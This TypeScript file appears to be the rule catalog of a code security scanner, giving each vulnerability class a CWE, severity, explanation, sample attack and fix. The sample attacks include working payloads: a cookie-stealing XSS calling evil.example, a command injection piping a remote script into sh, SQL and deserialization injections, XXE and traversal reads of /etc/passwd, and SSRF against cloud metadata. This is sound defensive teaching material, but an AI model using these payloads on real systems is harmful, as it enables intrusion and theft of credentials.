/**
 * What every rule means for a person: its CWE, severity, how sure it is, a one-sentence explanation
 * for a learner, an example of what an attacker sends, and the fix. The scanner, the SARIF writer
 * and the UI all read rules from here.
 */

export type Severity = 'critical' | 'high' | 'medium' | 'low'
/** SARIF's `precision` vocabulary: how often a finding of this rule is a real problem. */
export type Precision = 'very-high' | 'high' | 'medium' | 'low'

export interface RuleInfo {
  readonly id: string
  readonly title: string
  readonly cwe: number
  readonly severity: Severity
  readonly precision: Precision
  /** One sentence a learner understands. */
  readonly explanation: string
  /** What an attacker could send or do. */
  readonly attack: string
  /** How to fix it, with a code hint. */
  readonly fix: string
}

/** GitHub code scanning's numeric scale for `security-severity`. */
export const SECURITY_SEVERITY: Record<Severity, string> = { critical: '9.5', high: '8.0', medium: '5.5', low: '3.0' }

const RULES: readonly RuleInfo[] = [
  {
    id: 'airlock/xss-sink',
    title: 'HTML built from data (cross-site scripting)',
    cwe: 79,
    severity: 'high',
    precision: 'high',
    explanation: 'Text that ends up parsed as HTML can carry a script that runs with the page’s rights.',
    attack: '?name=<img src=x onerror="fetch(`//evil.example/?c=`+document.cookie)">',
    fix: 'Use textContent (or React’s normal {value} rendering); if HTML is really needed, clean it with DOMPurify.sanitize().',
  },
  {
    id: 'airlock/sql-injection',
    title: 'SQL built by joining strings',
    cwe: 89,
    severity: 'critical',
    precision: 'high',
    explanation: 'When input is pasted into SQL text, the input can change what the query does.',
    attack: "?id=1 OR 1=1 --   or   '; DROP TABLE users; --",
    fix: 'Pass values as parameters: db.query("SELECT * FROM users WHERE id = $1", [id]).',
  },
  {
    id: 'airlock/nosql-injection',
    title: 'Database filter taken from the request',
    cwe: 943,
    severity: 'high',
    precision: 'medium',
    explanation: 'A JSON body can carry query operators, so a "value" can turn into a condition that matches everything.',
    attack: '{"username": "admin", "password": {"$ne": null}}',
    fix: 'Turn each field into the type you expect first (String(req.body.username)) and never pass a request object as a filter.',
  },
  {
    id: 'airlock/command-injection',
    title: 'Shell command built from data',
    cwe: 78,
    severity: 'critical',
    precision: 'high',
    explanation: 'A shell reads ; | && and $( ) in the command, so input can start programs of its own.',
    attack: 'file=report.txt; curl https://evil.example/x | sh',
    fix: 'Use execFile/spawn with a fixed program and an argument array, without shell: true.',
  },
  {
    id: 'airlock/code-injection',
    title: 'Code built from data (eval and friends)',
    cwe: 94,
    severity: 'critical',
    precision: 'high',
    explanation: 'eval, new Function, string timers and vm run text as code, so input becomes code.',
    attack: "require('child_process').execSync('id')",
    fix: 'Parse data with JSON.parse; pass functions, not strings, to setTimeout; never run input as code.',
  },
  {
    id: 'airlock/path-traversal',
    title: 'File path built from user input',
    cwe: 22,
    severity: 'high',
    precision: 'medium',
    explanation: 'A name like "../../etc/passwd" walks out of the folder the code meant to use.',
    attack: '/download?file=../../../../etc/passwd',
    fix: 'Resolve the path and check it stays inside the folder: const p = path.resolve(base, name); if (!p.startsWith(base + path.sep)) reject.',
  },
  {
    id: 'airlock/ssrf',
    title: 'Server fetches a URL from user input (SSRF)',
    cwe: 918,
    severity: 'high',
    precision: 'medium',
    explanation: 'The server’s network position is used to reach what the user cannot: internal services, cloud metadata.',
    attack: '?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    fix: 'Allow only known hosts (compare new URL(input).hostname with an allow-list) and refuse private addresses.',
  },
  {
    id: 'airlock/open-redirect',
    title: 'Redirect to a URL from user input',
    cwe: 601,
    severity: 'medium',
    precision: 'medium',
    explanation: 'A link on your domain can send people to any site, which makes phishing look trustworthy.',
    attack: '/login?next=https://evil.example/fake-login',
    fix: 'Redirect only to relative paths you check (starts with "/" but not "//") or to an allow-list.',
  },
  {
    id: 'airlock/hardcoded-secret',
    title: 'Secret written in the code',
    cwe: 798,
    severity: 'critical',
    precision: 'high',
    explanation: 'Keys and passwords in code end up in repositories, bundles and chat logs, where anyone can copy them.',
    attack: 'Anyone with the source (or the browser bundle) uses the key as you.',
    fix: 'Read it from the environment or a secret store (process.env.API_KEY) and rotate the exposed one.',
  },
  {
    id: 'airlock/weak-password-hash',
    title: 'Password hashed with a fast hash',
    cwe: 916,
    severity: 'high',
    precision: 'high',
    explanation: 'MD5 and SHA hashes are made to be fast, so leaked password hashes can be guessed quickly.',
    attack: 'A GPU tries billions of guesses per second against a leaked table of md5(password).',
    fix: 'Use a password hash: bcrypt.hash(password, 12), crypto.scrypt or argon2.',
  },
  {
    id: 'airlock/weak-cipher',
    title: 'Weak cipher or mode',
    cwe: 327,
    severity: 'high',
    precision: 'very-high',
    explanation: 'Old ciphers and ECB mode leak what was encrypted or can be broken outright.',
    attack: 'ECB encrypts equal blocks to equal bytes, so patterns of the data show through.',
    fix: 'Use crypto.createCipheriv("aes-256-gcm", key, iv) with a random 12-byte IV per message.',
  },
  {
    id: 'airlock/insecure-random',
    title: 'Math.random() for a secret value',
    cwe: 338,
    severity: 'medium',
    precision: 'medium',
    explanation: 'Math.random() is predictable: after seeing a few values, the next ones can be computed.',
    attack: 'Observing a few reset codes lets an attacker predict the next one.',
    fix: 'Use crypto.randomBytes(32).toString("hex") or crypto.randomUUID().',
  },
  {
    id: 'airlock/tls-disabled',
    title: 'TLS certificate checks turned off',
    cwe: 295,
    severity: 'high',
    precision: 'very-high',
    explanation: 'Without certificate checks, anyone on the network path can pose as the server.',
    attack: 'A rogue Wi-Fi hotspot presents its own certificate and reads every request.',
    fix: 'Remove rejectUnauthorized: false; for a private CA, pass it with the ca option.',
  },
  {
    id: 'airlock/jwt-verification',
    title: 'JWT not properly verified',
    cwe: 347,
    severity: 'high',
    precision: 'high',
    explanation: 'A token is only trustworthy if its signature is checked with a fixed algorithm.',
    attack: 'A token with "alg": "none" or a forged payload that jwt.decode() happily reads.',
    fix: 'jwt.verify(token, secret, { algorithms: ["HS256"] }) and use only what it returns.',
  },
  {
    id: 'airlock/insecure-cookie',
    title: 'Cookie without HttpOnly, Secure or SameSite',
    cwe: 614,
    severity: 'medium',
    precision: 'medium',
    explanation: 'Session cookies should be unreadable by scripts, sent only over HTTPS and not on cross-site requests.',
    attack: 'An XSS bug reads document.cookie, or a cross-site form rides on the session.',
    fix: "res.cookie('session', id, { httpOnly: true, secure: true, sameSite: 'strict' })",
  },
  {
    id: 'airlock/permissive-cors',
    title: 'CORS allows any origin with credentials',
    cwe: 942,
    severity: 'high',
    precision: 'high',
    explanation: 'Any website the user visits can then make logged-in requests to this API and read the answers.',
    attack: 'evil.example runs fetch("https://api.yours/me", { credentials: "include" }) and reads the profile.',
    fix: 'List the allowed origins: cors({ origin: ["https://app.example.com"], credentials: true }).',
  },
  {
    id: 'airlock/insecure-deserialization',
    title: 'Untrusted data deserialized',
    cwe: 502,
    severity: 'critical',
    precision: 'high',
    explanation: 'Some deserializers rebuild functions from the data, so the data can run code.',
    attack: '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}',
    fix: 'Use JSON.parse and validate the result; never node-serialize or eval for data.',
  },
  {
    id: 'airlock/xml-external-entities',
    title: 'XML parser expands external entities (XXE)',
    cwe: 611,
    severity: 'high',
    precision: 'very-high',
    explanation: 'An XML document can declare entities that read local files or call internal URLs.',
    attack: '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>',
    fix: 'Parse with noent: false (the default) and without DTD loading.',
  },
  {
    id: 'airlock/postmessage-origin',
    title: 'Cross-window messages without an origin check',
    cwe: 346,
    severity: 'medium',
    precision: 'high',
    explanation: 'Any page that can open or frame this one can send it messages, or receive what it posts to "*".',
    attack: 'evil.example opens your page and posts {"action": "deleteAccount"}.',
    fix: "if (event.origin !== 'https://trusted.example') return; and postMessage(data, 'https://trusted.example')",
  },
  {
    id: 'airlock/target-blank',
    title: 'target="_blank" without rel="noopener"',
    cwe: 1022,
    severity: 'low',
    precision: 'high',
    explanation: 'The opened page gets a handle to this one and can navigate it to a fake copy.',
    attack: 'The linked page runs window.opener.location = "https://evil.example/login".',
    fix: 'Add rel="noopener noreferrer".',
  },
  {
    id: 'airlock/prototype-pollution',
    title: 'Prototype pollution',
    cwe: 1321,
    severity: 'high',
    precision: 'medium',
    explanation: 'Copying keys like "__proto__" from input changes Object.prototype, and with it every object in the program.',
    attack: '{"__proto__": {"isAdmin": true}}',
    fix: 'Skip "__proto__", "constructor" and "prototype" keys, copy only own keys, or merge into Object.create(null).',
  },
  {
    id: 'airlock/redos',
    title: 'Regular expression with catastrophic backtracking (ReDoS)',
    cwe: 1333,
    severity: 'medium',
    precision: 'high',
    explanation: 'Some patterns take exponential time on crafted input, freezing the server for everyone.',
    attack: "'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' against /^(a+)+$/",
    fix: 'Remove nested quantifiers such as (a+)+ or (\\w+\\s?)*, or limit the input length first.',
  },
  {
    id: 'airlock/suspicious-package',
    title: 'Package name close to a popular one (typo-squat or invented)',
    cwe: 1357,
    severity: 'medium',
    precision: 'medium',
    explanation: 'Assistants sometimes invent plausible package names, and attackers publish packages under such names and common typos.',
    attack: 'npm install expresss installs whatever the squatter put there, with install scripts running on your machine.',
    fix: 'Check the name on npmjs.com (owner, downloads, repository) or use the well-known package it resembles.',
  },
  {
    id: 'airlock/secrets-in-logs',
    title: 'Secret written to a log',
    cwe: 532,
    severity: 'medium',
    precision: 'medium',
    explanation: 'Logs are stored, copied and read widely, so secrets in them leak.',
    attack: 'Anyone with access to the log service reads the passwords and tokens.',
    fix: 'Log an id or a masked value instead (e.g. the last 4 characters), never the secret.',
  },
]

const BY_ID = new Map(RULES.map((info) => [info.id, info]))

/** Every rule Airlock reports, in catalog order. */
export function allRules(): readonly RuleInfo[] {
  return RULES
}

export function ruleInfo(id: string): RuleInfo | undefined {
  return BY_ID.get(id)
}
